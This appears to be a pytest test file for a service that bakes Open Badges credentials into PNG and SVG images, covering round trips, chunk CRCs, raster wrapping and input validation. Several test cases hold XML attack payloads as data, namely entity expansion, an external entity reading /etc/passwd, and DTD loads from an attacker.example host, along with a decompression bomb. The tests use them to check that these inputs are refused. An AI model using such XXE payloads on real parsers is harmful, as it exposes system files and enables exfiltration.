"""Baked badges: PNG and SVG round trips for OB 3.0 and OB 2.0, replacing an earlier bake, a
PNG that still decodes, hostile SVG refused, rasters wrapped; openbadgeslib reads what we bake."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Sequence
from xml.dom.minidom import parseString as parse_trusted

import png
import pytest
from openbadgeslib import baking as reference

from services.issuer.ob3 import baking
from services.issuer.ob3.baking import OB2, OB3, InvalidImage, UnsafeSvg

CREDENTIAL = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "id": "https://badges.example.org/public/credentials/a1",
        "name": "Lecteur émérite ✓",
        "note": "a CDATA end ]]> inside",
    },
    separators=(",", ":"),
    ensure_ascii=False,
)
JWT = "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJkaWQ6d2ViOngifQ.c2lnbmF0dXJl"
ASSERTION_URL = "https://badges.example.org/public/assertions/a1"
ASSERTION = '{"@context":"https://w3id.org/openbadges/v2","type":"Assertion"}'
OB3_KEYWORD = b"openbadgecredential"

SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="100" height="100">
  <!-- the badge -->
  <circle cx="50" cy="50" r="40" fill="#c00"/>
</svg>
"""


def make_png(width: int = 3, height: int = 2, extra: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """A real PNG written by pypng, with extra ancillary chunks before IDAT."""
    writer = png.Writer(width, height, greyscale=False)
    rows = [[(x * 40 + y * 90) % 256 for x in range(width * 3)] for y in range(height)]
    chunks = list(png.Reader(bytes=_write(writer, rows)).chunks())
    chunks[1:1] = list(extra)
    return _serialize(chunks)


def _write(writer: png.Writer, rows: list[list[int]]) -> bytes:
    buffer = _Buffer()
    writer.write(buffer, rows)
    return bytes(buffer.data)


class _Buffer:
    def __init__(self) -> None:
        self.data = bytearray()

    def write(self, data: bytes) -> None:
        self.data += data


def _serialize(chunks: list[tuple[bytes, bytes]]) -> bytes:
    out = baking.PNG_SIGNATURE
    for kind, data in chunks:
        out += struct.pack(">I", len(data)) + kind + data
        out += struct.pack(">I", zlib.crc32(kind + data))
    return out


def chunk_kinds(image: bytes) -> list[bytes]:
    return [kind for kind, _ in png.Reader(bytes=image).chunks()]


def text_chunks(image: bytes, keyword: bytes) -> list[bytes]:
    return [
        data
        for kind, data in png.Reader(bytes=image).chunks()
        if kind in (b"tEXt", b"zTXt", b"iTXt") and data.split(b"\x00", 1)[0] == keyword
    ]


def decodes(image: bytes) -> list[list[int]]:
    """pypng decodes every row (CRCs checked, IDAT inflated): the PNG still opens."""
    _width, _height, rows, _info = png.Reader(bytes=image).read()
    return [list(row) for row in rows]


class TestPng:
    @pytest.mark.parametrize("text", [CREDENTIAL, JWT])
    def test_ob3_round_trip(self, text: str) -> None:
        baked = baking.bake_png(make_png(), text)
        assert baking.extract_png(baked) == text

    def test_openbadgeslib_reads_our_bake(self) -> None:
        baked = baking.bake_png(make_png(), CREDENTIAL)
        assert reference.extract_png(baked, keyword=OB3_KEYWORD) == CREDENTIAL
        baked = baking.bake_png(make_png(), ASSERTION, OB2)
        assert reference.extract_png(baked) == ASSERTION

    def test_one_uncompressed_itxt_chunk_just_before_iend(self) -> None:
        baked = baking.bake_png(make_png(), JWT)
        assert chunk_kinds(baked)[-2:] == [b"iTXt", b"IEND"]
        (data,) = text_chunks(baked, OB3_KEYWORD)
        # keyword, NUL, compression flag 0, method 0, no language tag, no translated keyword.
        assert data == OB3_KEYWORD + b"\x00\x00\x00\x00\x00" + JWT.encode()

    def test_the_image_still_decodes_to_the_same_pixels(self) -> None:
        original = make_png(extra=[(b"tEXt", b"Title\x00Reader")])
        baked = baking.bake_png(original, CREDENTIAL)
        assert decodes(baked) == decodes(original)
        assert chunk_kinds(baked)[:-2] == chunk_kinds(original)[:-1]

    def test_every_chunk_crc_is_right(self) -> None:
        baked = baking.bake_png(make_png(), CREDENTIAL)
        offset = len(baking.PNG_SIGNATURE)
        while offset < len(baked):
            (length,) = struct.unpack(">I", baked[offset : offset + 4])
            kind_and_data = baked[offset + 4 : offset + 8 + length]
            (crc,) = struct.unpack(">I", baked[offset + 8 + length : offset + 12 + length])
            assert zlib.crc32(kind_and_data) == crc
            offset += 12 + length
        assert offset == len(baked)

    def test_baking_again_replaces_the_earlier_credential(self) -> None:
        baked = baking.bake_png(baking.bake_png(make_png(), CREDENTIAL), JWT)
        assert len(text_chunks(baked, OB3_KEYWORD)) == 1
        assert baking.extract_png(baked) == JWT

    def test_replaces_a_bake_by_another_tool(self) -> None:
        theirs = reference.bake_png(make_png(), "old", keyword=OB3_KEYWORD)
        baked = baking.bake_png(theirs, JWT)
        assert len(text_chunks(baked, OB3_KEYWORD)) == 1
        assert reference.extract_png(baked, keyword=OB3_KEYWORD) == JWT

    def test_ob2_replaces_the_legacy_text_chunk_and_keeps_an_ob3_bake(self) -> None:
        legacy = make_png(extra=[(b"tEXt", b"openbadges\x00" + ASSERTION_URL.encode())])
        baked = baking.bake_png(baking.bake_png(legacy, JWT), ASSERTION, OB2)
        assert len(text_chunks(baked, b"openbadges")) == 1
        assert baking.extract_png(baked, OB2) == ASSERTION
        assert baking.extract_png(baked) == JWT

    def test_ob2_and_ob3_keywords_are_apart(self) -> None:
        baked = baking.bake_png(make_png(), ASSERTION, OB2)
        assert baking.extract_png(baked) is None
        assert baking.extract_png(baked, OB2) == ASSERTION

    def test_an_image_without_a_credential(self) -> None:
        assert baking.extract_png(make_png()) is None

    def test_reads_a_compressed_chunk_of_another_baker(self) -> None:
        data = OB3_KEYWORD + b"\x00\x01\x00en\x00\x00" + zlib.compress(JWT.encode())
        image = make_png(extra=[(b"iTXt", data)])
        assert baking.extract_png(image) == JWT

    def test_a_compressed_chunk_may_not_inflate_without_bound(self) -> None:
        bomb = zlib.compress(b"a" * (baking.MAX_TEXT_BYTES + 1))
        image = make_png(extra=[(b"iTXt", OB3_KEYWORD + b"\x00\x01\x00\x00\x00" + bomb)])
        with pytest.raises(InvalidImage, match="inflates past"):
            baking.extract_png(image)

    def test_bytes_after_iend_are_dropped(self) -> None:
        baked = baking.bake_png(make_png() + b"trailing junk", JWT)
        assert baked.endswith(b"IEND\xaeB`\x82")

    @pytest.mark.parametrize(
        "image",
        [
            pytest.param(b"GIF89a", id="not-a-png"),
            pytest.param(baking.PNG_SIGNATURE + b"\x00\x00\x00\x0dIHDR", id="truncated"),
            pytest.param(b"", id="empty"),
        ],
    )
    def test_not_a_png(self, image: bytes) -> None:
        with pytest.raises(InvalidImage):
            baking.bake_png(image, JWT)

    def test_a_damaged_chunk_is_refused(self) -> None:
        image = bytearray(make_png())
        image[40] ^= 0xFF  # inside IHDR or IDAT: its CRC no longer matches
        with pytest.raises(InvalidImage, match="CRC"):
            baking.bake_png(bytes(image), JWT)
        with pytest.raises(InvalidImage, match="CRC"):
            baking.extract_png(bytes(image))


def root_children(svg: bytes) -> list[str]:
    document = parse_trusted(svg)
    return [node.tagName for node in document.documentElement.childNodes if node.nodeType == 1]


class TestSvg:
    def test_ob3_json_in_cdata_as_first_child(self) -> None:
        baked = baking.bake_svg(SVG, json=CREDENTIAL)
        document = parse_trusted(baked)
        root = document.documentElement
        assert root.getAttribute("xmlns:openbadges") == "https://purl.imsglobal.org/ob/v3p0"
        first = root.firstChild
        assert first is not None
        assert first.nodeName == "openbadges:credential"
        assert not first.hasAttribute("verify")
        assert {child.nodeType for child in first.childNodes} == {first.CDATA_SECTION_NODE}
        assert baking.extract_svg(baked) == CREDENTIAL
        assert json.loads(baking.extract_svg(baked) or "") == json.loads(CREDENTIAL)

    def test_ob3_jwt_in_verify(self) -> None:
        baked = baking.bake_svg(SVG, verify=JWT)
        assert b'<openbadges:credential verify="' + JWT.encode() + b'"/>' in baked
        assert baking.extract_svg(baked) == JWT

    def test_ob2_hosted_assertion_url_and_json(self) -> None:
        baked = baking.bake_svg(SVG, json=ASSERTION, verify=ASSERTION_URL, standard=OB2)
        root = parse_trusted(baked).documentElement
        assert root.getAttribute("xmlns:openbadges") == "http://openbadges.org"
        first = root.firstChild
        assert first is not None
        assert first.nodeName == "openbadges:assertion"
        assert first.getAttribute("verify") == ASSERTION_URL
        assert baking.extract_svg(baked, OB2) == ASSERTION
        assert baking.extract_svg(baked) is None

    def test_openbadgeslib_reads_our_bake(self) -> None:
        credential = baking.bake_svg(SVG, json=CREDENTIAL)
        jwt = baking.bake_svg(SVG, verify=JWT)
        element = "openbadges:credential"
        assert reference.extract_svg(credential, element=element, text_fallback=True) == CREDENTIAL
        assert reference.extract_svg(jwt, element=element) == JWT
        assertion = baking.bake_svg(SVG, json=ASSERTION, verify=ASSERTION_URL, standard=OB2)
        assert reference.extract_svg(assertion) == ASSERTION_URL

    def test_the_rest_of_the_image_is_kept(self) -> None:
        baked = baking.bake_svg(SVG, verify=JWT)
        assert root_children(baked) == ["openbadges:credential", "circle"]
        assert b"<!-- the badge -->" in baked
        assert b'viewBox="0 0 100 100"' in baked

    def test_baking_again_replaces_the_earlier_credential(self) -> None:
        baked = baking.bake_svg(baking.bake_svg(SVG, json=CREDENTIAL), verify=JWT)
        assert root_children(baked) == ["openbadges:credential", "circle"]
        assert baking.extract_svg(baked) == JWT

    def test_replaces_a_bake_by_another_tool_of_either_version(self) -> None:
        ob3 = reference.bake_svg(
            SVG, "old", element="openbadges:credential", namespace=OB3.svg_namespace
        )
        ob2 = reference.bake_svg(SVG, "https://old.example.org/a")
        for theirs in (ob3, ob2):
            baked = baking.bake_svg(theirs, json=CREDENTIAL)
            assert root_children(baked) == ["openbadges:credential", "circle"]
            assert baking.extract_svg(baked) == CREDENTIAL
            assert baking.extract_svg(baked, OB2) is None

    def test_a_plain_doctype_is_read_and_dropped(self) -> None:
        svg = SVG.replace(
            b"<svg ",
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg ',
        )
        baked = baking.bake_svg(svg, verify=JWT)
        assert b"DOCTYPE" not in baked
        assert baking.extract_svg(baked) == JWT

    def test_an_image_without_a_credential(self) -> None:
        assert baking.extract_svg(SVG) is None

    def test_nothing_to_bake(self) -> None:
        with pytest.raises(ValueError, match="nothing"):
            baking.bake_svg(SVG)

    @pytest.mark.parametrize(
        "svg",
        [
            pytest.param(
                b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
                b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
                id="entity-expansion",
            ),
            pytest.param(
                b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
                id="external-entity",
            ),
            pytest.param(
                b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
                b'<svg xmlns="http://www.w3.org/2000/svg"/>',
                id="parameter-entity",
            ),
            pytest.param(
                b'<!DOCTYPE svg [<!ELEMENT svg ANY>]><svg xmlns="http://www.w3.org/2000/svg"/>',
                id="internal-subset",
            ),
            pytest.param(
                b'<!DOCTYPE svg SYSTEM "http://attacker.example/x.dtd">'
                b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
                id="entity-from-an-external-dtd",
            ),
        ],
    )
    def test_hostile_svg_is_refused(self, svg: bytes) -> None:
        with pytest.raises(UnsafeSvg):
            baking.bake_svg(svg, verify=JWT)
        with pytest.raises(UnsafeSvg):
            baking.extract_svg(svg)

    @pytest.mark.parametrize(
        "svg",
        [
            pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg">', id="unclosed"),
            pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg">&nbsp;</svg>', id="entity"),
            pytest.param(b"<svg><rect/></svg>", id="no-svg-namespace"),
            pytest.param(b'<html xmlns="http://www.w3.org/2000/svg"/>', id="not-svg"),
            pytest.param(b"\x89PNG\r\n", id="binary"),
        ],
    )
    def test_not_an_svg(self, svg: bytes) -> None:
        with pytest.raises(InvalidImage):
            baking.bake_svg(svg, verify=JWT)


def jpeg(width: int, height: int) -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + b"\xff\xff" + sof + b"\xff\xd9"


def gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00;"


def webp(chunk: bytes, payload: bytes) -> bytes:
    body = b"WEBP" + chunk + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", len(body)) + body


WEBP_VP8X = webp(
    b"VP8X", b"\x00\x00\x00\x00" + (63).to_bytes(3, "little") + (47).to_bytes(3, "little")
)
WEBP_VP8L = webp(b"VP8L", b"\x2f" + ((64 - 1) | ((48 - 1) << 14)).to_bytes(4, "little"))
WEBP_VP8 = webp(b"VP8 ", b"\x00\x00\x00\x9d\x01\x2a" + struct.pack("<HH", 64, 48))


class TestRaster:
    @pytest.mark.parametrize(
        ("image", "kind", "size"),
        [
            (make_png(3, 2), "png", (3, 2)),
            (jpeg(640, 480), "jpeg", (640, 480)),
            (gif(32, 16), "gif", (32, 16)),
            (WEBP_VP8X, "webp", (64, 48)),
            (WEBP_VP8L, "webp", (64, 48)),
            (WEBP_VP8, "webp", (64, 48)),
        ],
    )
    def test_kind_and_size(self, image: bytes, kind: str, size: tuple[int, int]) -> None:
        assert baking.sniff(image) == kind
        assert baking.size(image) == size

    def test_an_svg_is_sniffed(self) -> None:
        assert baking.sniff(SVG) == "svg"
        assert baking.sniff(b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'/>") == "svg"
        assert baking.sniff(b"plain text") is None

    @pytest.mark.parametrize(
        ("image", "media_type"),
        [(jpeg(640, 480), "image/jpeg"), (gif(32, 16), "image/gif"), (WEBP_VP8X, "image/webp")],
    )
    def test_a_raster_is_wrapped_in_an_svg_of_its_size_and_baked(
        self, image: bytes, media_type: str
    ) -> None:
        wrapped = baking.svg_form(image)
        width, height = baking.size(image)
        root = parse_trusted(wrapped).documentElement
        assert root.namespaceURI == baking.SVG_NS
        assert (root.getAttribute("width"), root.getAttribute("height")) == (
            str(width),
            str(height),
        )
        (shown,) = root.getElementsByTagName("image")
        href = shown.getAttributeNS(baking.XLINK_NS, "href")
        prefix = f"data:{media_type};base64,"
        assert href.startswith(prefix)
        assert base64.b64decode(href[len(prefix) :]) == image
        baked = baking.bake_svg(wrapped, verify=JWT)
        assert baking.extract_svg(baked) == JWT

    def test_an_svg_stays_as_it_is(self) -> None:
        assert baking.svg_form(SVG) is SVG

    def test_a_png_has_an_svg_form_too(self) -> None:
        image = make_png()
        assert baking.extract_svg(baking.bake_svg(baking.svg_form(image), verify=JWT)) == JWT

    @pytest.mark.parametrize(
        "image",
        [
            pytest.param(b"\xff\xd8\xff\xd9", id="jpeg-without-frame"),
            pytest.param(b"GIF89a\x00\x00\x00\x00", id="gif-without-size"),
            pytest.param(b"GIF89a", id="gif-cut-short"),
            pytest.param(b"not an image", id="unknown"),
            pytest.param(SVG, id="svg"),
        ],
    )
    def test_what_cannot_be_wrapped(self, image: bytes) -> None:
        with pytest.raises(InvalidImage):
            baking.wrap_raster(image)
